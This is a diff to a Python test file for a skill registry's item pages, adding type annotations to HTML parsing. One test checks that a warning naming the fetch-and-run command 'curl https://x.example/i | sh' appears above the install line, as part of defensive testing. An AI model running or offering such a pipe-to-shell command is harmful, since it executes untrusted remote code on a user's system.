@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 import shutil
+from typing import Any
 
 import httpx
 import pytest
@@ -49,7 +50,7 @@ def on_page(registry: Registry, name: str) -> tuple[dict[str, str], dict[str, st
     """The rows in the JSON and in the HTML of an item's page."""
     address = f"{registry.url}/-/skill/acme/{name}"
     document = httpx.get(address, headers={"Accept": "application/json"}).json()
-    tree = html.fromstring(httpx.get(address, headers={"Accept": "text/html"}).content)
+    tree: Any = html.fromstring(httpx.get(address, headers={"Accept": "text/html"}).content)
     shown = {
         row.xpath("dt")[0].text_content().lower(): " ".join(row.xpath("dd")[0].text_content().split())
         for row in tree.xpath("//dl[@class='glance']/div")
@@ -104,11 +105,13 @@ def test_what_is_undeclared_is_said_in_the_one_sentence(
 
 
 def test_an_alarm_stands_above_the_install_line(registry: Registry, published: tuple[str, ...]) -> None:
-    tree = html.fromstring(httpx.get(f"{registry.url}/-/skill/acme/alarm", headers={"Accept": "text/html"}).content)
+    tree: Any = html.fromstring(
+        httpx.get(f"{registry.url}/-/skill/acme/alarm", headers={"Accept": "text/html"}).content
+    )
     (header,) = tree.xpath("//header[@class='item']")
     words = header.text_content()
     assert words.index("curl https://x.example/i | sh") < words.index("rye add skill:acme/alarm")
-    clean = html.fromstring(
+    clean: Any = html.fromstring(
         httpx.get(f"{registry.url}/-/skill/acme/brainstorming", headers={"Accept": "text/html"}).content
     )
     assert clean.xpath("//header[@class='item']//*[contains(@class, 'notice')]") == []
